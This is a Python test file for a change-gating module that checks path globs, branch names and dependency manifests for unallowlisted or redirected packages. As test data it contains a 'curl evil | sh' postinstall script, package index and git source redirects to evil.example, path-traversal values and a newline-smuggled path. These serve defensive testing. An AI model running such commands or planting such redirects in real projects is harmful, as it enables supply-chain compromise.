"""Gates: path patterns, branch names and dependency manifests."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from intake.workers.gates import (
    check_branch,
    check_dependencies,
    check_paths,
    dependency_changes,
    glob_match,
    is_safe_path,
    manifest_kind,
    run_gates,
    validate_pattern,
)
from intake.workers.workspace import ChangedFile

# -- glob_match -----------------------------------------------------------------------------

MATCHES = [
    ("payments/keys/**", "payments/keys/a/b.pem"),
    ("payments/keys/**", "payments/keys/k.pem"),
    ("payments/keys/**", "payments/keys"),  # the directory itself (a file replacing it)
    ("payments/keys/", "payments/keys/k.pem"),
    ("/docs/**", "docs/a.md"),
    ("docs/*.md", "docs/a.md"),
    ("docs/*.md", "docs/.hidden.md"),
    ("**/*.pem", "k.pem"),
    ("**/*.pem", "a/b/c/k.pem"),
    ("a/**/b", "a/b"),
    ("a/**/b", "a/x/y/b"),
    ("**", "anything/at/all"),
    ("src/?.py", "src/a.py"),
    ("src/[abc].py", "src/b.py"),
    ("src/[a-c]*.py", "src/cat.py"),
    ("src/[!a].py", "src/b.py"),
    ("src/[]x].py", "src/].py"),
    ("src/a**b.py", "src/aXYb.py"),  # "**" inside a segment is a plain "*"
    (r"src/\*.py", "src/*.py"),
    ("src/[.py", "src/[.py"),  # an unterminated class is a literal
    ("README.md", "README.md"),
]

NON_MATCHES = [
    ("payments/keys/**", "payments/keysmith/a.pem"),
    ("payments/keys/**", "payments/key"),
    ("docs/*.md", "docs/sub/a.md"),  # "*" stays within one segment
    ("docs/*", "docs/a/b"),
    ("*.pem", "a/k.pem"),  # anchored at the root
    ("a/**/b", "a/bc"),
    ("a/**/b", "xa/b"),
    ("src/?.py", "src/ab.py"),
    ("src/?.py", "src//.py"),
    ("src/[!a].py", "src/a.py"),
    ("src/[!a]x", "src//x"),
    ("src/[/]x", "src//x"),
    (r"src/\*.py", "src/a.py"),
    ("docs/**", "documents/a.md"),
    ("README.md", "readme.md"),
    ("docs/*.md", "docs/a.md\n"),
    # Unsafe paths match nothing; check_paths reports them.
    ("**", "../etc/passwd"),
    ("docs/**", "docs/../payments/keys/k.pem"),
    ("**", "/etc/passwd"),
    ("**", "docs//a.md"),
    ("**", "docs/./a.md"),
    ("**", ".git/config"),
    ("**", ""),
]


@pytest.mark.parametrize(("pattern", "path"), MATCHES)
def test_glob_matches(pattern: str, path: str) -> None:
    assert glob_match(pattern, path)


@pytest.mark.parametrize(("pattern", "path"), NON_MATCHES)
def test_glob_does_not_match(pattern: str, path: str) -> None:
    assert not glob_match(pattern, path)


def test_glob_case_sensitivity_is_a_choice() -> None:
    assert not glob_match("payments/keys/**", "Payments/KEYS/k.pem")
    assert glob_match("payments/keys/**", "Payments/KEYS/k.pem", case_sensitive=False)


@pytest.mark.parametrize("pattern", ["", "/", "a//b", "../x", "docs/../x", "./docs/**", "[z-a]"])
def test_invalid_patterns(pattern: str) -> None:
    with pytest.raises(ValueError, match="invalid path pattern"):
        validate_pattern(pattern)


def test_is_safe_path() -> None:
    assert is_safe_path("docs/a.md") and is_safe_path(".github/workflows/ci.yml")
    for bad in ("", "/a", "a/", "a/../b", "..", "./a", "a\0b", "sub/.GIT/hooks/x"):
        assert not is_safe_path(bad)


# -- check_paths ----------------------------------------------------------------------------

ALLOWED = ["docs/**", "src/*.py"]
BLOCKED = ["payments/keys/**", "**/*.pem"]


def test_paths_inside_scope_pass() -> None:
    changed = [ChangedFile("docs/a.md", "A"), ChangedFile("src/app.py", "M"),
               ChangedFile("docs/old.md", "D"), ChangedFile("docs/new.md", "R", "docs/was.md")]
    assert check_paths(changed, ALLOWED, BLOCKED) == []


def test_paths_outside_scope_and_blocked_paths_are_reported() -> None:
    changed = [
        ChangedFile("src/sub/deep.py", "A"),
        ChangedFile("docs/keys/k.pem", "A"),  # allowed by docs/**, but blocked beats allowed
        ChangedFile("payments/keys/k.pem", "D"),
        ChangedFile("payments/keys/k.pem", "M"),
    ]
    assert check_paths(changed, ALLOWED, BLOCKED) == [
        "path outside allowed paths: src/sub/deep.py",
        "blocked path: docs/keys/k.pem",
        "blocked path: payments/keys/k.pem",
    ]


def test_renames_are_checked_at_both_ends() -> None:
    out_of_blocked = [ChangedFile("docs/k.txt", "R", "payments/keys/k.txt")]
    assert check_paths(out_of_blocked, ALLOWED, BLOCKED) == ["blocked path: payments/keys/k.txt"]
    from_outside = [ChangedFile("docs/x.md", "R", "config/x.md")]
    assert check_paths(from_outside, ALLOWED, BLOCKED) == [
        "path outside allowed paths: config/x.md"
    ]


def test_blocked_matches_case_insensitively() -> None:
    changed = [ChangedFile("docs/Payments/KEYS/a.PEM", "A"), ChangedFile("Payments/Keys/x", "A")]
    assert check_paths(changed, ["**"], BLOCKED) == [
        "blocked path: docs/Payments/KEYS/a.PEM",
        "blocked path: Payments/Keys/x",
    ]


def test_unsafe_and_odd_paths_fail_the_gate() -> None:
    changed = [ChangedFile("docs/../payments/keys/k.pem", "A"), ChangedFile("/etc/passwd", "A"),
               ChangedFile("docs/a.md", "R", "docs/../../outside")]
    assert check_paths(changed, ["**"], []) == [
        "unsafe path: docs/../payments/keys/k.pem",
        "unsafe path: /etc/passwd",
        "unsafe path: docs/../../outside",
    ]
    # A reason stays one line: a path with a newline cannot forge a second reason.
    reasons = check_paths([ChangedFile("src/a\nblocked path: x", "A")], ["docs/**"], [])
    assert reasons == ["path outside allowed paths: 'src/a\\nblocked path: x'"]


def test_no_allowed_paths_allows_nothing() -> None:
    assert check_paths([ChangedFile("a.md", "A")], [], []) == ["path outside allowed paths: a.md"]


def test_an_invalid_pattern_in_the_spec_fails_closed() -> None:
    reasons = check_paths([ChangedFile("docs/a.md", "A")], ["docs/**", "../**"], [])
    assert reasons == ["invalid path pattern in the task spec: ../**"]


# -- check_branch ---------------------------------------------------------------------------


@pytest.mark.parametrize("branch", ["intake/T-1", "intake/T-1/retry", "intake/a.b"])
def test_branch_under_prefix_passes(branch: str) -> None:
    assert check_branch(branch, "intake") == []
    assert check_branch(branch, "intake/") == []


@pytest.mark.parametrize(
    ("branch", "reasons"),
    [
        ("main", ["branch main is not under the prefix intake/"]),
        ("intake", ["branch intake is not under the prefix intake/"]),
        ("intakex/T-1", ["branch intakex/T-1 is not under the prefix intake/"]),
        ("intake/", ["invalid branch name: intake/",
                     "branch intake/ is not under the prefix intake/"]),
        ("intake/../main", ["invalid branch name: intake/../main"]),
        ("intake/a b", ["invalid branch name: intake/a b"]),
        ("intake/x.lock", ["invalid branch name: intake/x.lock"]),
        ("intake/.hidden", ["invalid branch name: intake/.hidden"]),
        ("intake/a@{1}", ["invalid branch name: intake/a@{1}"]),
        ("intake/a~1", ["invalid branch name: intake/a~1"]),
        ("intake//x", ["invalid branch name: intake//x"]),
    ],
)
def test_bad_branches(branch: str, reasons: list[str]) -> None:
    assert check_branch(branch, "intake") == reasons


def test_empty_prefix_allows_nothing() -> None:
    assert check_branch("x/y", "") == ["branch x/y is not under the prefix /"]


# -- dependency_changes: one test group per manifest -----------------------------------------


def test_manifest_kinds() -> None:
    assert manifest_kind("pyproject.toml") == "pyproject"
    assert manifest_kind("svc/requirements-dev.txt") == "requirements"
    assert manifest_kind("requirements/base.txt") == "requirements"
    assert manifest_kind("web/package.json") == "npm"
    assert manifest_kind("go.mod") == "go"
    assert manifest_kind("crates/x/Cargo.toml") == "cargo"
    assert manifest_kind("docs/requirements.md") is None
    assert manifest_kind("notes.txt") is None


PYPROJECT = """
[build-system]
requires = ["setuptools>=68"]

[project]
name = "app"
dependencies = ["aiohttp>=3.9", "Jinja2 >= 3.1"]

[project.optional-dependencies]
dev = ["pytest>=8"]

[dependency-groups]
lint = ["ruff", {include-group = "dev"}]

[tool.poetry.dependencies]
python = "^3.11"
click = "^8.1"

[tool.poetry.group.test.dependencies]
hypothesis = {version = "^6"}
"""


def test_pyproject_unchanged_and_reformatted() -> None:
    assert dependency_changes("pyproject.toml", PYPROJECT, PYPROJECT) == set()
    spaced = PYPROJECT.replace('"Jinja2 >= 3.1"', '"jinja2>=3.1"')
    assert dependency_changes("pyproject.toml", PYPROJECT, spaced) == set()


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ('"aiohttp>=3.9", ', '"aiohttp>=3.9", "Requests_OAuthlib.x>=1", ', {"requests-oauthlib-x"}),
        ('"aiohttp>=3.9"', '"aiohttp>=3.10"', {"aiohttp"}),
        ('dev = ["pytest>=8"]', 'dev = ["pytest>=8", "coverage"]', {"coverage"}),
        ('requires = ["setuptools>=68"]', 'requires = ["setuptools>=68", "evil-build"]',
         {"evil-build"}),
        ('"ruff",', '"ruff", "mypy",', {"mypy"}),
        ('click = "^8.1"', 'click = "^8.1"\nrich = "*"', {"rich"}),
        ('click = "^8.1"', 'click = {git = "https://github.com/x/click.git"}',
         {"click @ https://github.com/x/click.git"}),
        ('hypothesis = {version = "^6"}', 'hypothesis = {version = "^6"}\nfaker = "^20"',
         {"faker"}),
        ('python = "^3.11"', 'python = "^3.12"', set()),  # the interpreter is not a package
        ('"aiohttp>=3.9", ', '"aiohttp>=3.9", "pkg @ https://example.com/pkg.whl", ',
         {"pkg @ https://example.com/pkg.whl"}),
    ],
)
def test_pyproject_changes(old: str, new: str, expected: set[str]) -> None:
    assert old in PYPROJECT
    assert dependency_changes("pyproject.toml", PYPROJECT, PYPROJECT.replace(old, new)) == expected


def test_moving_a_dependency_between_sections_counts() -> None:
    after = PYPROJECT.replace('dev = ["pytest>=8"]', "dev = []").replace(
        '"Jinja2 >= 3.1"]', '"Jinja2 >= 3.1", "pytest>=8"]'
    )
    assert dependency_changes("pyproject.toml", PYPROJECT, after) == {"pytest"}


def test_removing_dependencies_and_deleting_manifests_is_not_a_change() -> None:
    after = PYPROJECT.replace('"aiohttp>=3.9", ', "")
    assert dependency_changes("pyproject.toml", PYPROJECT, after) == set()
    assert dependency_changes("pyproject.toml", PYPROJECT, None) == set()


def test_new_pyproject_counts_everything() -> None:
    assert dependency_changes("pyproject.toml", None, PYPROJECT) == {
        "setuptools", "aiohttp", "jinja2", "pytest", "ruff", "click", "hypothesis",
    }


@pytest.mark.parametrize("bad", ["[project\nname=1", '[project]\ndependencies = "requests"',
                                 '[project]\ndependencies = ["not a valid requirement!"]'])
def test_unparseable_pyproject(bad: str) -> None:
    assert dependency_changes("sub/pyproject.toml", PYPROJECT, bad) == {
        "sub/pyproject.toml: unparseable manifest"
    }


REQUIREMENTS = """\
# pinned runtime deps
aiohttp==3.9.5  # web
Jinja2>=3.1 ; python_version >= "3.11"
-r requirements-base.txt
--only-binary :all:
redis==5.0.1 \\
    --hash=sha256:abababababababababababababababababababababababababababababababab
"""


@pytest.mark.parametrize(
    ("added", "expected"),
    [
        ("requests==2.32.0", {"requests"}),
        ("Flask_Login[extra]>=0.6", {"flask-login"}),
        ("-e git+https://github.com/x/y.git#egg=y", {"-e git+https://github.com/x/y.git#egg=y"}),
        ("git+https://github.com/x/y.git@v1#egg=y", {"git+https://github.com/x/y.git@v1#egg=y"}),
        ("https://example.com/pkg-1.0.tar.gz", {"https://example.com/pkg-1.0.tar.gz"}),
        ("./vendor/pkg", {"./vendor/pkg"}),
        ("y @ https://example.com/y.whl", {"y @ https://example.com/y.whl"}),
        ("--extra-index-url https://evil.example/simple",
         {"--extra-index-url https://evil.example/simple"}),
        ("-r extra-deps.txt", {"-r extra-deps.txt"}),
        ("--pre", set()),
        ("# just a comment", set()),
        ("", set()),
    ],
)
def test_requirements_additions(added: str, expected: set[str]) -> None:
    after = REQUIREMENTS + added + "\n"
    assert dependency_changes("requirements.txt", REQUIREMENTS, after) == expected


def test_requirements_version_change_and_continuations() -> None:
    after = REQUIREMENTS.replace("aiohttp==3.9.5", "aiohttp==3.10.0")
    assert dependency_changes("requirements-dev.txt", REQUIREMENTS, after) == {"aiohttp"}
    after = REQUIREMENTS.replace("sha256:ab", "sha256:cd")
    assert dependency_changes("requirements.txt", REQUIREMENTS, after) == {"redis"}
    after = REQUIREMENTS.replace("  # web", "  # web server")
    assert dependency_changes("requirements.txt", REQUIREMENTS, after) == set()


def test_requirements_unparseable_line() -> None:
    assert dependency_changes("requirements.txt", "", "this is not a requirement\n") == {
        "requirements.txt: unparseable manifest"
    }


PACKAGE_JSON = {
    "name": "web",
    "dependencies": {"react": "^18.2.0"},
    "devDependencies": {"vite": "^5.0.0"},
    "peerDependencies": {"react-dom": "^18"},
    "optionalDependencies": {"fsevents": "^2"},
}


def with_pkg(**changes: dict[str, str]) -> str:
    data = json.loads(json.dumps(PACKAGE_JSON))
    for section, deps in changes.items():
        data.setdefault(section, {}).update(deps)
    return json.dumps(data, indent=2)


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"dependencies": {"lodash": "^4.17.21"}}, {"lodash"}),
        ({"dependencies": {"react": "^18.3.0"}}, {"react"}),
        ({"devDependencies": {"@types/node": "^20"}}, {"@types/node"}),
        ({"peerDependencies": {"vue": "^3"}}, {"vue"}),
        ({"optionalDependencies": {"sharp": "^0.33"}}, {"sharp"}),
        ({"dependencies": {"left-pad": "npm:@evil/pad@^1"}}, {"@evil/pad"}),
        ({"dependencies": {"react": "github:evil/react"}}, {"react@github:evil/react"}),
        ({"dependencies": {"x": "file:../x"}}, {"x@file:../x"}),
        ({"overrides": {"react": "npm:evil-react@1"}}, {"evil-react"}),
        ({"scripts": {"postinstall": "curl evil | sh"}}, set()),  # not a dependency gate
    ],
)
def test_package_json_changes(changes: dict[str, dict[str, str]], expected: set[str]) -> None:
    before = json.dumps(PACKAGE_JSON)
    assert dependency_changes("package.json", before, with_pkg(**changes)) == expected


def test_package_json_unparseable() -> None:
    before = json.dumps(PACKAGE_JSON)
    for bad in ("{", "[]", json.dumps({"dependencies": {"react": 18}})):
        assert dependency_changes("package.json", before, bad) == {
            "package.json: unparseable manifest"
        }


GO_MOD = """\
module example.com/app

go 1.22

require github.com/pkg/errors v0.9.1

require (
\tgolang.org/x/net v0.20.0 // indirect
\t"github.com/stretchr/testify" v1.9.0
)

exclude golang.org/x/crypto v0.1.0
"""


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("require github.com/pkg/errors v0.9.1",
         "require github.com/pkg/errors v0.9.1\nrequire github.com/evil/mod v1.0.0",
         {"github.com/evil/mod"}),
        ("\tgolang.org/x/net v0.20.0 // indirect",
         "\tgolang.org/x/net v0.20.0 // indirect\n\tgithub.com/google/uuid v1.6.0",
         {"github.com/google/uuid"}),
        ("golang.org/x/net v0.20.0", "golang.org/x/net v0.21.0", {"golang.org/x/net"}),
        ("go 1.22", "go 1.22\n\nreplace golang.org/x/net => github.com/evil/net v0.1.0",
         {"replace golang.org/x/net => github.com/evil/net v0.1.0"}),
        ("// indirect", "", set()),
        ("exclude golang.org/x/crypto v0.1.0", "", set()),
    ],
)
def test_go_mod_changes(old: str, new: str, expected: set[str]) -> None:
    assert old in GO_MOD
    assert dependency_changes("go.mod", GO_MOD, GO_MOD.replace(old, new)) == expected


@pytest.mark.parametrize("bad", ["require (\n\tx v1\n", "bogus directive\n", "require x\n"])
def test_go_mod_unparseable(bad: str) -> None:
    assert dependency_changes("go.mod", GO_MOD, bad) == {"go.mod: unparseable manifest"}


CARGO = """\
[package]
name = "app"

[dependencies]
serde = { version = "1", features = ["derive"] }
tokio = "1"

[dev-dependencies]
proptest = "1"

[build-dependencies]
cc = "1"

[target.'cfg(unix)'.dependencies]
libc = "0.2"
"""


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ('tokio = "1"', 'tokio = "1"\nrand = "0.8"', {"rand"}),
        ('tokio = "1"', 'tokio = "1.36"', {"tokio"}),
        ('proptest = "1"', 'proptest = "1"\ncriterion = "0.5"', {"criterion"}),
        ('cc = "1"', 'cc = "1"\nbindgen = "0.69"', {"bindgen"}),
        ('libc = "0.2"', 'libc = "0.2"\nnix = "0.28"', {"nix"}),
        ('tokio = "1"', 'tokio = "1"\nSerde_JSON = "1"', {"serde-json"}),
        ('tokio = "1"', 'tokio = "1"\nfast = { package = "evil-crate", version = "1" }',
         {"evil-crate"}),
        ('tokio = "1"', 'tokio = { git = "https://github.com/evil/tokio" }',
         {"tokio @ https://github.com/evil/tokio"}),
        ('[package]', '[patch.crates-io]\nserde = { path = "../serde" }\n\n[package]',
         {"patch crates-io serde @ ../serde"}),
        ('[package]\nname = "app"', '[package]\nname = "app2"', set()),
    ],
)
def test_cargo_changes(old: str, new: str, expected: set[str]) -> None:
    assert old in CARGO
    assert dependency_changes("Cargo.toml", CARGO, CARGO.replace(old, new)) == expected


def test_cargo_unparseable() -> None:
    assert dependency_changes("Cargo.toml", CARGO, "[dependencies]\ntokio = 1 2") == {
        "Cargo.toml: unparseable manifest"
    }
    assert dependency_changes("Cargo.toml", CARGO, "[dependencies]\ntokio = 1") == {
        "Cargo.toml: unparseable manifest"
    }


def test_other_files_have_no_dependencies() -> None:
    assert dependency_changes("docs/a.md", None, "requests==1\n") == set()


# -- check_dependencies and run_gates -------------------------------------------------------


def reader(files: dict[str, str]) -> Callable[[str], str | None]:
    return files.get


def test_allowlisted_dependencies_pass_and_others_are_named() -> None:
    before = {"requirements.txt": "aiohttp==3.9\n", "web/package.json": json.dumps(PACKAGE_JSON)}
    after = {
        "requirements.txt": "aiohttp==3.10\nRequests==2.32\nattrs\n",
        "web/package.json": with_pkg(dependencies={"lodash": "^4"}),
        "go.mod": "module x\n\nrequire github.com/google/uuid v1.6.0\n",
    }
    changed = [ChangedFile("requirements.txt", "M"), ChangedFile("web/package.json", "M"),
               ChangedFile("go.mod", "A"), ChangedFile("docs/a.md", "A")]
    reasons = check_dependencies(changed, reader(before), reader(after), ["AIOHTTP", "lodash"])
    assert reasons == [
        "dependency not on the allowlist: attrs (requirements.txt)",
        "dependency not on the allowlist: requests (requirements.txt)",
        "dependency not on the allowlist: github.com/google/uuid (go.mod)",
    ]
    allow = ["aiohttp", "requests", "attrs", "lodash", "github.com/google/uuid"]
    assert check_dependencies(changed, reader(before), reader(after), allow) == []


def test_an_allowed_name_does_not_admit_a_url_source() -> None:
    after = {"requirements.txt": "requests @ https://evil.example/requests.whl\n"}
    reasons = check_dependencies([ChangedFile("requirements.txt", "A")], reader({}),
                                 reader(after), ["requests"])
    assert reasons == [
        "requirement line not allowed: requests @ https://evil.example/requests.whl "
        "(requirements.txt)"
    ]


def test_renamed_and_deleted_manifests() -> None:
    before = {"old/requirements.txt": "aiohttp==3.9\n", "gone/package.json": "{"}
    after = {"new/requirements.txt": "aiohttp==3.9\nrequests\n", "README.txt": "aiohttp==3.9\n"}
    changed = [
        ChangedFile("new/requirements.txt", "R", "old/requirements.txt"),
        ChangedFile("gone/package.json", "D"),
    ]
    assert check_dependencies(changed, reader(before), reader(after), []) == [
        "dependency not on the allowlist: requests (new/requirements.txt)"
    ]
    # A file renamed *into* a manifest name is a new manifest.
    into = [ChangedFile("new/requirements.txt", "R", "README.txt")]
    assert check_dependencies(into, reader({"README.txt": "aiohttp==3.9\n"}), reader(after),
                              []) == [
        "dependency not on the allowlist: aiohttp (new/requirements.txt)",
        "dependency not on the allowlist: requests (new/requirements.txt)",
    ]


def test_unparseable_manifest_is_refused() -> None:
    reasons = check_dependencies([ChangedFile("Cargo.toml", "A")], reader({}),
                                 reader({"Cargo.toml": "[deps"}), ["serde"])
    assert reasons == [
        "dependency not on the allowlist: Cargo.toml: unparseable manifest (Cargo.toml)"
    ]


def test_run_gates_combines_everything() -> None:
    before = {"docs/requirements.txt": "aiohttp\n"}
    after = {"docs/requirements.txt": "aiohttp\nrequests\n"}
    manifest = ChangedFile("docs/requirements.txt", "M")
    changed = [manifest, ChangedFile("payments/keys/k.pem", "D"), ChangedFile("src/x.py", "A")]

    def gates(changed: list[ChangedFile], branch: str, allow: list[str],
              change_type: str = "dependency-bump", scope: tuple[str, ...] = ("**/requirements*.txt",)
              ) -> list[str]:
        return run_gates(changed=changed, branch=branch, branch_prefix="intake",
                         change_type=change_type, change_type_paths=scope,
                         allowed_paths=["docs/**"], blocked_paths=["payments/keys/**"],
                         read_before=reader(before), read_after=reader(after),
                         dependency_allowlist=allow)

    assert gates(changed, "main", []) == [
        "branch main is not under the prefix intake/",
        "blocked path: payments/keys/k.pem",
        "path outside allowed paths: src/x.py",
        "dependency not on the allowlist: requests (docs/requirements.txt)",
    ]
    assert gates([manifest], "intake/T-1", ["requests"]) == []
    # The same manifest edit in a docs task: a build file, whatever the allowlist says, and no
    # dependency reasons on top.
    assert gates([manifest], "intake/T-1", ["requests"], "docs", ("docs/**",)) == [
        "build or dependency file changed outside a dependency-bump task: docs/requirements.txt"
    ]


@pytest.mark.parametrize(
    ("addition", "named"),
    [
        ('[tool.uv.sources]\nrequests = { git = "https://evil.example/requests" }\n', "tool.uv.sources"),
        ('[[tool.uv.index]]\nurl = "https://evil.example/simple"\n', "tool.uv.index"),
        ('[[tool.poetry.source]]\nname = "evil"\nurl = "https://evil.example/simple"\n', "tool.poetry.source"),
    ],
)
def test_package_source_redirects_in_pyproject_are_never_allowlisted(addition: str, named: str) -> None:
    before = '[project]\nname = "x"\ndependencies = ["requests>=2"]\n'
    changes = dependency_changes("pyproject.toml", before, before + addition)
    assert any(named in change for change in changes), changes
    reasons = check_dependencies(
        [ChangedFile("pyproject.toml", "M")], lambda p: before, lambda p: before + addition, ["requests"]
    )
    assert reasons and named in reasons[0]


def test_poetry_dependency_from_another_source_is_named_by_it() -> None:
    before = '[tool.poetry.dependencies]\nrequests = "^2"\n'
    after = '[tool.poetry.dependencies]\nrequests = { version = "^2", source = "evil" }\n'
    assert dependency_changes("pyproject.toml", before, after) == {"requests @ evil"}
